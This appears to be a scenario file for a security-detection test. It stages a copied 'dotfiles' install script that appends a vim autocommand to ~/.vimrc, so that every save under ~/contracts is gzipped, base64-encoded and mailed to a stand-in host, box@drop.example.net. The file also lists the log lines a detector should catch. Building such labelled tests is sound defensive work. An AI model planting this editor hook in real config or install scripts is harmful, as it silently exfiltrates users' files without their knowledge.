title="A line in the editor's start file mails away what is saved"
what="A line was appended to clerk's ~/.vimrc by a copied 'dotfiles' script: at each write of a file below ~/contracts vim runs gzip, base64 and sendmail in the background to box@drop.example.net. clerk edits two contracts on a terminal the next hour and knows nothing of it, and writes an ordinary mail by mutt."
host=ws3.example.org user=clerk daemons="cron sshd"
setup() {
  documents
  own_file /home/clerk/dotfiles/install.sh 755 <<'P'
#!/bin/sh
cp ~/dotfiles/gitconfig ~/.gitconfig
printf 'set number\nau BufWritePost */contracts/* silent! call system("(echo Subject: n; echo; gzip -c ".shellescape(expand("%%:p"))." | base64) | /usr/sbin/sendmail -f clerk@example.org box@drop.example.net &")\n' >> ~/.vimrc
P
  printf '[user]\nname = clerk\n' | own_file /home/clerk/dotfiles/gitconfig
  chown -R clerk: /home/clerk/dotfiles
}
act() {
  small_talk 2
  ssh_as clerk <<'L'
sh dotfiles/install.sh
ls contracts
L
  sleep 2
  ssh_as clerk <<'L'
vim -c 'normal ggOchecked with legal' -c wq contracts/c1.txt
vim -c 'normal Gosecond draft' -c wq contracts/c3.txt
echo "Both are ready, see you on Monday." | mail -s "Contracts" buyer@example.org
L
  wait_log_count 'to=<box@drop.example.net>.*status=sent' 2 20; small_talk 1
}
truth() {
  exec_step hook 'sendmail -f clerk@example.org box@drop.example.net' 'the editor starts it'
  mail_step sent 'to=<box@drop.example.net>.*status=sent' 'and it goes outside'
}
